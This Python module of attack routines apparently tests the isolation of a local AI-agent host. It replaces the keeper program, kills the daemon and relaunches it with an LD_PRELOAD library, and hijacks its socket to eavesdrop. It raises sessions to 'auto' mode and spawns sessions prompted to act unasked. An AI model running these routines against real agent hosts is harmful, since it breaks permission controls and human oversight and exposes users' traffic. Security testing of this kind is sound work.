"""Attacks on the house itself: its keeper, its life, the rights of sessions."""

import os, signal, socket, subprocess

from doors import Rpc, attempt, call, codecast, connect, reached
from rows import wait_gone


def replace_keeper(facts):
    """Has the keeper replaced by a program of the attacker's."""
    evil = facts["evil"]
    said = []
    for params in ({"path": evil}, {"program": evil}, {"path": evil, "force": True}, {}):
        for door in ("hostel.sock", "zeroclaw.sock"):
            said.append(call(facts, "keeper/upgrade", door, **params))
    words = [facts["hostel"], "keeper", "upgrade"]
    said.append(attempt(lambda: subprocess.run(words, capture_output=True, text=True).stderr))
    # A program under the name of hostel that asks for it.
    said.append(attempt(lambda: subprocess.run([evil, "keeper", "upgrade"], executable=facts["hostel"]).returncode))

    def speak_to_the_keeper():
        stream = connect(f"{facts['house']}/run/keeper.sock")
        stream.sendall(b"\0" * 64)
        return repr(stream.recv(64))
    said.append(attempt(speak_to_the_keeper))
    return said


def end_house(facts):
    """Stops the house by its doors."""
    return [call(facts, "house/down", keep=True), call(facts, "house/down"),
            call(facts, "journal/gc", all=True),
            attempt(lambda: subprocess.run([facts["hostel"], "down"], capture_output=True, text=True).stderr)]


def raise_rights(facts):
    """Raises the own mode and mesh policy, and has sessions made that would do the work unasked."""
    own = [row["session_id"] for row in Rpc(facts).call("session/list")["result"]["sessions"]]
    said = []
    for session in [*own, facts["session"]]:
        for door in ("hostel.sock", "zeroclaw.sock"):
            for change in ({"mode": "auto"}, {"mode": "code"}, {"mesh": "on"}, {"mode": "auto", "mesh": "on"},
                           {"mode": "auto", "passphrase": facts["passphrase"]}):
                said.append(call(facts, "session/configure", door, session_id=session, **change))
        said.append(codecast(facts, "session.set_mode", sessionId=session, mode="auto"))
    words = f"ask touch {facts['witness']}"
    made = []
    for door in ("hostel.sock", "zeroclaw.sock"):
        for more in ({"mode": "auto"}, {"mode": "code"}, {"mesh": "on"}, {}):
            made.append(call(facts, "session/new", door, agent_alias="bare", cwd=os.getcwd(), **more))
    for more in ({"mode": "auto"}, {"mode": "code"}, {}):
        made.append(codecast(facts, "session.create", path=os.getcwd(), cli_type="bare", **more))
    for answer in made:
        result = answer.get("result") or {}
        session = result.get("session_id") or result.get("sessionId")
        if session:
            # What was made is put to work, and told that it may.
            said.append(call(facts, "session/configure", session_id=session, mode="auto"))
            said.append(codecast(facts, "session.set_mode", sessionId=session, mode="auto"))
            said.append(call(facts, "session/send", session_id=session, prompt=words))
    return {"own": own, "said": said, "made": made}


def squat(facts):
    """Gives itself, a session and a process names by which a person means others."""
    own = [row["session_id"] for row in Rpc(facts).call("session/list")["result"]["sessions"]]
    said = [call(facts, "session/configure", session_id=session, name=facts["session"]) for session in own]
    for more in ({"name": facts["session"]}, {"session_id": facts["session"]}):
        said.append(call(facts, "session/new", agent_alias="bare", cwd=os.getcwd(), **more))
    said.append(call(facts, "process/spawn", name=facts["process"], argv=["sleep", "600"]))
    return {"own": own, "said": said}


def take_place(facts):
    """Kills the daemon and starts hostel's own program in its place, with a library that it would not load by itself."""
    killed = attempt(os.kill, facts["daemon"], signal.SIGKILL)
    if killed is None:
        wait_gone(facts["daemon"])
    words = [facts["hostel"], "--home", facts["house"], "up"]
    environment = {**os.environ, "LD_PRELOAD": facts["library"]}
    done = attempt(lambda: subprocess.run(words, capture_output=True, text=True, timeout=60, env=environment,
                                          stdin=subprocess.DEVNULL))
    return {"killed": killed, "up": done if isinstance(done, dict) else {"code": done.returncode, "said": done.stderr}}


def pose(facts):
    """Puts a socket of its own in the place of the house's, and listens to what is said there."""
    path, heard = f"{facts['house']}/run/hostel.sock", b""

    def listen():
        os.rename(path, f"{path}.real")
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(path)
        listener.listen()
        listener.settimeout(0.05)
        return listener
    listener = attempt(listen)
    reached(facts, "posing")
    while not os.path.exists(f"{facts['signals']}/enough"):
        stream = attempt(lambda: listener.accept()[0])
        while not isinstance(stream, dict) and (piece := attempt(stream.recv, 65536)) and isinstance(piece, bytes):
            heard += piece
    if not isinstance(listener, dict):
        os.rename(f"{path}.real", path)
    return {"listener": repr(listener), "heard": heard.decode(errors="replace")}
